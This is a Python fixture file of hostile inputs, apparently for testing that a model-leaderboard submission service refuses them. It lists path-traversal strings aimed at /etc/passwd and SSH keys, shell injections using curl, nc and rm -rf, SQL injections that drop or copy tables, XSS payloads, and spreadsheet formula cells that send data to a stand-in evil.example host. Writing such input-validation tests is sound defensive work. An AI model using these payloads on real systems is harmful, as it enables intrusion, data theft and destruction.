"""A corpus of hostile submission inputs: every one must be refused with a clear message."""

from __future__ import annotations

TRAVERSAL = ["../../etc/passwd", "..", "../", "./model", "org/../../secret", "org/..", "/etc/passwd", "/", "//server/share",
             "~", "~/models/x", "~root/.ssh/id_rsa", "C:\\Windows\\system32", "..\\..\\boot.ini", "org/model/../../x",
             "%2e%2e%2fetc%2fpasswd", "org%2Fmodel", "file:///etc/passwd", "org/model/..", "....//....//etc"]
URLS = ["https://huggingface.co/org/model", "http://huggingface.co/org/model", "hf://org/model",
        "huggingface.co/org/model", "https://evil.example/model", "ftp://x/y", "git@github.com:org/model.git",
        "org/model.git", "https://huggingface.co/org/model/tree/main", "javascript:alert(1)", "data:text/html,<b>x</b>",
        "//evil.example/x", "http://127.0.0.1:8080/admin", "org/model?download=1", "org/model#frag"]
CONTROL = ["org/model\x00", "org/\x00model", "org/mo\ndel", "org/mod\r\nel", "org/mo\tdel", "\x1b[31morg/model",
           "org/model\x7f", "org/\u200bmodel", "org/model\u200d", "\u202eledom/gro", "org/\u202emodel", "org/model\u2066",
           "org/model\ufeff", "org/mo\u00addel", "\u2028org/model"]
LOOKALIKES = ["оrg/model", "org/mоdel", "org/mode\u0406", "ｏｒｇ/ｍｏｄｅｌ", "org/model\u2044x", "org\u2215model",
              "org\uff0fmodel", "org/modeł", "org/ɱodel", "org/model\u0301", "org/ᴍodel", "org/model\u00a0", "org/ⅿodel",
              "org/мodel", "org/mode1\u0338"]
HTML = ["<img src=x onerror=alert(1)>", "org/<script>alert(1)</script>", "\"><svg onload=alert(1)>", "org/model<b>",
        "<iframe src=//evil>", "org/model' onmouseover='alert(1)", "&lt;script&gt;", "org/<a href=x>m</a>",
        "{{7*7}}", "${7*7}", "<!--", "org/model\"><img src=x>"]
MARKDOWN = ["[click](https://evil.example)", "org/[x](javascript:alert(1))", "![img](https://evil.example/p.png)",
            "**org/model**", "org/`rm -rf /`", "# heading", "> quote", "org/model|pipe|table", "org/model\n---\n",
            "[org/model]: https://evil.example"]
SQL = ["org/model'; DROP TABLE requests; --", "org/model\" OR \"1\"=\"1", "' OR 1=1 --", "org/model'); DELETE FROM requests; --",
       "1; ATTACH DATABASE '/tmp/x.db' AS x; --", "org/model%' --", "org/model\\'", "org/model UNION SELECT * FROM requests",
       "'; COPY scores TO '/tmp/x.csv'; --", "org/model'||(SELECT 1)||'"]
SHELL = ["org/model; rm -rf /", "org/model && curl evil", "$(whoami)", "`id`", "org/model | nc evil 1", "org/model > /tmp/x"]
LENGTH = ["a" * 10_000, "org/" + "m" * 500, "o" * 97 + "/model", "org/" + "x" * 97, "a/" * 300, "-" * 200, "." * 50,
          "org/" + "é" * 200]
SHAPE = ["", " ", "\t", "org/", "/model", "org//model", "org/model/extra", "a/b/c/d", "-org/model", "org/-model",
         "org/model-", "org/.model", "org/model.", "org/mo--del", "org/mo..del", "_/_", "org/ model", " org/model /x",
         "@org/model", "org@model", "org/model@main", "org:model", "org/mödel", "org/model!", "org/mod*el", "org/mod?el",
         "org/m%20odel", "org/mo'del", "org/mo\"del", "None", "null", "undefined", "org/model\\"]

MODEL_IDS = TRAVERSAL + URLS + CONTROL + LOOKALIKES + HTML + MARKDOWN + SQL + SHELL + LENGTH + SHAPE

REVISIONS = ["../../etc/passwd", "main/../../x", "/abs", "~", "main\x00", "ma\nin", "<script>", "'; DROP TABLE x; --",
             "a" * 5_000, "refs/../heads", "main..dev", "-main", "main-", "ma in", "$(id)", "main\u202e", "https://x",
             "feature//x", "ｍａｉｎ", ""]

PRECISIONS = ["int4", "int8", "8bit", "fp8", "bf16; rm -rf /", "<script>", "../fp16", "FLOAT64", "float64", "auto\x00",
              "a" * 1000, "None", "'; DROP TABLE requests; --", "gptq", "bfloat16\x00", "\u202ebf16", "1", "-1", "fp16,fp32"]

SEARCHES = ["'; DROP TABLE scores; --", "%", "_", "\\", "' OR '1'='1", "\" OR 1=1 --", "*", "[a-z]+", "(", ")", ";;;",
            "\x00", "a" * 10_000, "<script>alert(1)</script>", "'; COPY scores TO '/tmp/leak.csv'; --",
            "1 UNION SELECT * FROM runs", "ATTACH '/tmp/x.db' AS x", "%' --", "'||'", "NULL", "\u202e", "😀", "中文", "ﷺ"]

# API arguments of the wrong type, size or range: (endpoint, JSON text of the data list). Each is
# refused with one short message naming the argument (JSON text, so that 1e400 and 10**30 arrive as sent).
API_ARGUMENTS = [
    ("samples", '["RUN", "TASK", "", "", false, 1000000000000000000000000000000, 20]'),
    ("samples", '["RUN", "TASK", "", "", false, 1e400, 20]'),
    ("samples", '["RUN", "TASK", "", "", false, -1e400, 20]'),
    ("samples", '["RUN", "TASK", "", "", false, 1.5, 20]'),
    ("samples", '["RUN", "TASK", "", "", false, 0, 20]'),
    ("samples", '["RUN", "TASK", "", "", false, "1; DROP TABLE runs", 20]'),
    ("samples", '["RUN", "TASK", "", "", false, [1], 20]'),
    ("samples", '["RUN", "TASK", "", "", false, {"a": 1}, 20]'),
    ("samples", '["RUN", "TASK", "", "", false, true, 20]'),
    ("samples", '["RUN", "TASK", "", "", false, 1, 100000]'),
    ("samples", '["RUN", "TASK", "", "", "maybe", 1, 20]'),
    ("samples", '["RUN", "TASK", "", "", 7, 1, 20]'),
    ("samples", '[123, "TASK", "", "", false, 1, 20]'),
    ("samples", '["RUN", ["TASK"], "", "", false, 1, 20]'),
    ("samples", '["", "TASK", "", "", false, 1, 20]'),
    ("leaderboard_table", '[5, "", "", "*", "", "", "", "", "", false, "", false]'),
    ("leaderboard_table", '[true, "", "", "*", "", "", "", "", "", false, "", false]'),
    ("leaderboard_table", '[{"a": 1}, "", "", "*", "", "", "", "", "", false, "", false]'),
    ("leaderboard_table", '["", [1, 2], "", "*", "", "", "", "", "", false, "", false]'),
    ("leaderboard_table", '["", "", 1e400, "*", "", "", "", "", "", false, "", false]'),
    ("leaderboard_table", '["", "", "", 42, "", "", "", "", "", false, "", false]'),
    ("leaderboard_table", '["' + "x," * 6000 + '", "", "", "*", "", "", "", "", "", false, "", false]'),
    ("leaderboard_table", '["", "", "", "*", "", "", "", "", "", "maybe", "", false]'),
    ("leaderboard_table", '["", "", "", "*", "", "", "", "", "' + "s" * 5000 + '", false, "", false]'),
    ("per_language", '[12, "", "", ""]'),
    ("per_category", '["", false, "", ""]'),
    ("parity", '["", "", "", 3.14]'),
    ("language_difficulty", '[null, 1]'),
    ("compare", '[1, 2, "", ""]'),
    ("compare", '["", "", "", ""]'),
    ("model_results", '[["org/model"]]'),
    ("model_results", '["' + "m" * 5000 + '"]'),
    ("submit", '[5, "main", "auto"]'),
    ("submit", '["org/model", 1.5, "auto"]'),
    ("submit", '["org/model", "main", ["auto"]]'),
    ("download_samples", '["' + "m" * 5000 + '", "csv"]'),
    ("download_samples", '["", "csv"]'),
]

# Model outputs a spreadsheet would run as formulas when a CSV is opened (OWASP "CSV injection").
FORMULA_CELLS = ['=HYPERLINK("https://evil.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]

# Model names that look like links but are not the model's own Hub page.
LINKY_NAMES = ["see https://evil.example/x and www.evil.example", "/srv/models/www.evil.example",
               "mail admin@evil.example now", "http://evil.example"]
